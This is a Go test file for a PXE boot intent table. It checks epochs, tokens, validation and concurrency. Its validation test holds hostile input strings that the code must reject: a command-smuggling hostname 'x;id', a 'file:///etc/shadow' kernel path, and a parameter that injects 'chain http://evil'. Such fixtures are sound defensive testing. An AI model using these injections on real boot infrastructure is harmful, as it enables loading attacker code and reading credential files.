package pxe_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"rerack.dev/rerack/internal/fault"
	"rerack.dev/rerack/pxe"
	"rerack.dev/rerack/pxe/ipxe"
)

var key = bytes.Repeat([]byte{1}, 32)

func table(t testing.TB) *pxe.Table {
	t.Helper()
	tab, err := pxe.NewTable(key)
	if err != nil {
		t.Fatal(err)
	}
	return tab
}

func mac(i int) pxe.MAC { return pxe.MAC{2, 0, 0, byte(i >> 16), byte(i >> 8), byte(i)} }

func intent(i int, epoch uint64) pxe.Intent {
	return pxe.Intent{Machine: fmt.Sprintf("m%d", i), Run: "r/1", Epoch: epoch, Expires: time.Now().Add(time.Hour),
		NICs: []pxe.NIC{{MAC: mac(i), Address: netip.PrefixFrom(netip.AddrFrom4([4]byte{10, 1, byte(i >> 8), byte(i)}), 16)}},
		Boot: &pxe.Boot{LocalDisk: true}}
}

func set(t *testing.T, tab *pxe.Table, in pxe.Intent, want ...fault.Kind) {
	t.Helper()
	err := tab.Set(in)
	if len(want) == 0 && err != nil || len(want) > 0 && !fault.Is(err, want[0]) {
		t.Fatalf("Set %s epoch %d: got %v, want %v", in.Machine, in.Epoch, err, want)
	}
}

func TestEpochsOnlyGrow(t *testing.T) {
	tab := table(t)
	set(t, tab, intent(1, 5))
	old, _ := tab.Lookup(mac(1))
	set(t, tab, intent(1, 4), fault.Stale)
	set(t, tab, intent(1, 6))
	if _, ok := tab.ByToken(old.Token()); ok {
		t.Error("the token of the older epoch is still good")
	}
	if err := tab.Remove("m1", 5); !fault.Is(err, fault.Stale) {
		t.Errorf("Remove with an older epoch: %v", err)
	}
	if err := tab.Remove("m1", 6); err != nil {
		t.Fatal(err)
	}
	if err := tab.Remove("m1", 6); err != nil {
		t.Errorf("second Remove: %v", err)
	}
	set(t, tab, intent(1, 5), fault.Stale)
	if err := tab.Replace([]pxe.Intent{intent(1, 5), intent(2, 1)}); !fault.Is(err, fault.Internal) && err == nil {
		t.Error("Replace took an older epoch")
	}
	if _, ok := tab.Lookup(mac(1)); ok {
		t.Error("an older intent came back after a restore")
	}
	if _, ok := tab.Lookup(mac(2)); !ok {
		t.Error("one stale intent kept the others out")
	}
}

func TestAddressMovesWithAHigherEpoch(t *testing.T) {
	tab := table(t)
	set(t, tab, intent(1, 5))
	thief := intent(2, 5)
	thief.NICs[0].MAC = mac(1)
	set(t, tab, thief, fault.Conflict)
	thief.Epoch = 6
	set(t, tab, thief)
	if e, _ := tab.Lookup(mac(1)); e.Intent.Machine != "m2" {
		t.Errorf("%s holds the address", e.Intent.Machine)
	}
	if err := tab.Remove("m1", 9); err != nil {
		t.Fatal(err)
	}
	if _, ok := tab.Lookup(mac(1)); !ok {
		t.Error("removing the former holder took the address from the new one")
	}
}

func TestReplaceLetsAddressesChangeHands(t *testing.T) {
	tab := table(t)
	set(t, tab, intent(1, 1))
	a, b := intent(2, 1), intent(1, 1)
	a.NICs[0].MAC, b.NICs[0].MAC = mac(1), mac(9)
	if err := tab.Replace([]pxe.Intent{a, b}); err != nil {
		t.Fatal(err)
	}
	if e, ok := tab.Lookup(mac(1)); !ok || e.Intent.Machine != "m2" {
		t.Error("the address did not change hands")
	}
}

func TestConsumedOutlivesAnUpdate(t *testing.T) {
	tab := table(t)
	set(t, tab, intent(1, 1))
	e, _ := tab.Lookup(mac(1))
	e.Consume("first")
	e.Consume("second")
	in := intent(1, 1)
	in.Hostname = "changed"
	set(t, tab, in)
	if e, _ := tab.Lookup(mac(1)); e.Nonce() != "first" {
		t.Errorf("nonce %q after an update of the same boot", e.Nonce())
	}
	in.Run = "r/2"
	set(t, tab, in)
	if e, _ := tab.Lookup(mac(1)); e.Nonce() != "" {
		t.Error("a new run has a used token")
	}
}

func TestTokens(t *testing.T) {
	a := pxe.NewToken(key, "m1", "r/1", 1)
	for name, b := range map[string]pxe.Token{
		"key": pxe.NewToken(bytes.Repeat([]byte{2}, 32), "m1", "r/1", 1), "machine": pxe.NewToken(key, "m2", "r/1", 1),
		"run": pxe.NewToken(key, "m1", "r/2", 1), "epoch": pxe.NewToken(key, "m1", "r/1", 2), "boundary": pxe.NewToken(key, "m1r", "/1", 1),
	} {
		if a == b {
			t.Errorf("the same token for another %s", name)
		}
	}
	if b, err := pxe.ParseToken(a.Reveal()); err != nil || a != b || len(a.Reveal()) != 43 {
		t.Errorf("round trip: %v", err)
	}
	var log bytes.Buffer
	slog.New(slog.NewJSONHandler(&log, nil)).Info("x", "token", a, "struct", struct{ T pxe.Token }{a})
	j, _ := json.Marshal(a)
	if all := fmt.Sprintf("%v %+v %#v %s %q", a, a, a, j, log.String()); strings.Contains(all, a.Reveal()) {
		t.Errorf("token printed: %s", all)
	}
	for _, s := range []string{"", a.Reveal()[1:], a.Reveal() + "A", strings.Repeat("=", 43), strings.Repeat("é", 21) + "A"} {
		if _, err := pxe.ParseToken(s); err == nil || (s != "" && strings.Contains(err.Error(), s)) {
			t.Errorf("ParseToken(%q): %v", s, err)
		}
	}
	if _, err := pxe.NewTable(make([]byte, 31)); !fault.Is(err, fault.Invalid) {
		t.Errorf("short key: %v", err)
	}
	in := intent(1, 1)
	in.TokenHash = pxe.NewToken(bytes.Repeat([]byte{2}, 32), "m1", "r/1", 1).Hash()
	set(t, table(t), in, fault.Invalid)
}

func TestValidate(t *testing.T) {
	tests := map[string]func(*pxe.Intent){
		"machine":         func(in *pxe.Intent) { in.Machine = "../x" },
		"hostname":        func(in *pxe.Intent) { in.Hostname = "a\nb" },
		"CVE-2011-0997":   func(in *pxe.Intent) { in.Hostname = "x;id" },
		"CVE-2019-6473":   func(in *pxe.Intent) { in.Hostname = "-" },
		"nics":            func(in *pxe.Intent) { in.NICs = nil },
		"two of a kind":   func(in *pxe.Intent) { in.NICs = append(in.NICs, in.NICs[0]) },
		"multicast MAC":   func(in *pxe.Intent) { in.NICs[0].MAC[0] |= 1 },
		"IPv6":            func(in *pxe.Intent) { in.NICs[0].Address = netip.MustParsePrefix("fd00::1/64") },
		"gateway":         func(in *pxe.Intent) { in.NICs[0].Gateway = netip.MustParseAddr("192.0.2.1") },
		"no end":          func(in *pxe.Intent) { in.Expires = time.Time{} },
		"no run":          func(in *pxe.Intent) { in.Run = "" },
		"two boots":       func(in *pxe.Intent) { in.Boot.HTTP = &pxe.Image{} },
		"nothing to boot": func(in *pxe.Intent) { in.Boot = &pxe.Boot{} },
		"OSSA-2025-001 file URL as digest": func(in *pxe.Intent) {
			in.Boot = &pxe.Boot{Kernel: &pxe.Kernel{Kernel: "file:///etc/shadow"}}
		},
		"CVE-2026-46447 parameter": func(in *pxe.Intent) {
			in.Boot = &pxe.Boot{Kernel: &pxe.Kernel{Kernel: pxe.DigestOf([32]byte{}), Params: []ipxe.Param{{Key: "a", Value: "b\nchain http://evil"}}}}
		},
		"long command line": func(in *pxe.Intent) {
			p := ipxe.Param{Key: "a", Value: strings.Repeat("x", 500)}
			in.Boot = &pxe.Boot{Kernel: &pxe.Kernel{Kernel: pxe.DigestOf([32]byte{}), Params: []ipxe.Param{p, p, p, p}}}
		},
	}
	for name, spoil := range tests {
		t.Run(name, func(t *testing.T) {
			in := intent(1, 1)
			if err := in.Validate(); err != nil {
				t.Fatal(err)
			}
			spoil(&in)
			if err := in.Validate(); !fault.Is(err, fault.Invalid) {
				t.Errorf("got %v", err)
			}
		})
	}
}

// TestReadersSeeWholeEntries reads while the table changes.
func TestReadersSeeWholeEntries(t *testing.T) {
	tab := table(t)
	set(t, tab, intent(1, 1))
	ctx, cancel := context.WithCancel(t.Context())
	var wg sync.WaitGroup
	for range 2 {
		wg.Go(func() {
			for ctx.Err() == nil {
				e, ok := tab.Lookup(mac(1))
				if !ok {
					t.Error("the machine was gone while its intent was replaced")
					return
				}
				if got, ok := tab.ByToken(e.Token()); ok && got.Intent.Epoch != e.Intent.Epoch {
					t.Error("a token leads to another epoch")
					return
				}
			}
		})
	}
	for e := uint64(2); e < 2000; e++ {
		set(t, tab, intent(1, e))
	}
	cancel()
	wg.Wait()
}

func BenchmarkDecide(b *testing.B) {
	tab := table(b)
	ins := make([]pxe.Intent, 10000)
	for i := range ins {
		ins[i] = intent(i, 1)
	}
	if err := tab.Replace(ins); err != nil {
		b.Fatal(err)
	}
	d := &pxe.Decider{Table: tab, BaseURL: "http://10.0.0.1:8080"}
	link := netip.MustParseAddr("10.1.0.0")
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		if d.Decide(pxe.Request{MAC: mac(i % 10000), Class: pxe.ClassIPXE, Link: link}).Answer != pxe.Serve {
			b.Fatal("not served")
		}
		i++
	}
}

func BenchmarkSetOfTenThousand(b *testing.B) {
	tab := table(b)
	ins := make([]pxe.Intent, 10000)
	for i := range ins {
		ins[i] = intent(i, 1)
	}
	if err := tab.Replace(ins); err != nil {
		b.Fatal(err)
	}
	for b.Loop() {
		if err := tab.Set(ins[77]); err != nil {
			b.Fatal(err)
		}
	}
}
